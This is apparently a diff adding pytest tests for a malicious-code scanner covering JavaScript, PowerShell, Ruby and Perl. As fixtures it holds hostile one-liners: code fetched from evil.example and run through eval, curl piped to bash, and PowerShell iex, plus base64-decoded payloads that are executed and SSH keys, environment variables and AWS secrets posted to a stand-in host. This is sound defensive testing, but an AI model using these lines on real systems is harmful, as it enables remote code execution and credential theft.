@@ -1,0 +1,56 @@
+"""JavaScript/TypeScript, PowerShell, Ruby and Perl read by the linear token matcher."""
+from __future__ import annotations
+
+import pytest
+
+from scanner.models import Severity
+from script_helpers import script_rules, top
+
+
+@pytest.mark.parametrize("path,text", [
+    ("index.js", "fetch('https://evil.example/p').then(r => r.text()).then(eval);\n"),
+    ("index.js", "const https = require('https');\nhttps.get(u, res => { let d=''; res.on('data', c => d += c); res.on('end', () => eval(d)); });\n"),
+    ("index.ts", "const code = await (await fetch(url)).text();\nnew Function(code)();\n"),
+    ("index.js", "require('child_process').execSync('curl -s https://evil.example/a | bash');\n"),
+    ("install.ps1", "iex (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\n"),
+    ("install.ps1", "Invoke-WebRequest https://evil.example/b.ps1 -UseBasicParsing | Invoke-Expression\n"),
+    ("tool.rb", "require 'net/http'\neval(Net::HTTP.get(URI('https://evil.example/r.rb')))\n"),
+])
+def test_download_and_run(path, text):
+    assert top(path, text, "IG701") in (Severity.HIGH, Severity.CRITICAL)
+
+
+@pytest.mark.parametrize("path,text", [
+    ("index.js", "eval(atob('YWxlcnQoMSk='));\n"),
+    ("index.js", "const p = Buffer.from(blob, 'base64').toString();\nnew Function(p)();\n"),
+    ("install.ps1", "$s = [System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b))\nInvoke-Expression $s\n"),
+    ("tool.pl", "use MIME::Base64;\neval(decode_base64($blob));\n"),
+])
+def test_decode_and_run(path, text):
+    assert top(path, text, "IG702") == Severity.CRITICAL
+
+
+@pytest.mark.parametrize("path,text", [
+    ("index.js", "const c = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\nfetch('https://evil.example', {method: 'POST', body: c});\n"),
+    ("index.js", "const env = JSON.stringify(process.env);\naxios.post('https://evil.example/e', env);\n"),
+    ("index.js", "const k = process.env.AWS_SECRET_ACCESS_KEY;\nfetch('https://evil.example/?k=' + k);\n"),
+])
+def test_credentials_to_network(path, text):
+    assert top(path, text, "IG703") in (Severity.HIGH, Severity.CRITICAL)
+
+
+def test_split_module_name_is_folded():
+    assert top("index.js", "const m = require('child_' + 'pro' + 'cess');\n", "IG705") == Severity.HIGH
+    assert top("index.js", "const f = '\\x65\\x78\\x65\\x63\\x53\\x79\\x6e\\x63';\n", "IG705") == Severity.HIGH
+
+
+@pytest.mark.parametrize("path,text", [
+    ("index.js", "const r = await fetch('https://api.example.com/v1/items');\nconsole.log(await r.json());\n"),
+    ("index.js", "const token = process.env.GITHUB_TOKEN;\nfetch('https://api.github.com/user', {headers: {Authorization: `Bearer ${token}`}});\n"),
+    ("index.js", "const { execFileSync } = require('child_process');\nexecFileSync('git', ['status']);\n"),
+    ("install.ps1", "Invoke-WebRequest https://example.com/tool.zip -OutFile tool.zip\nExpand-Archive tool.zip\n"),
+    ("tool.rb", "data = JSON.parse(File.read('config.json'))\nputs data['name']\n"),
+    ("index.js", "const img = Buffer.from(b64, 'base64');\nfs.writeFileSync('a.png', img);\n"),
+])
+def test_ordinary_code_stays_quiet(path, text):
+    assert script_rules(path, text) == set()
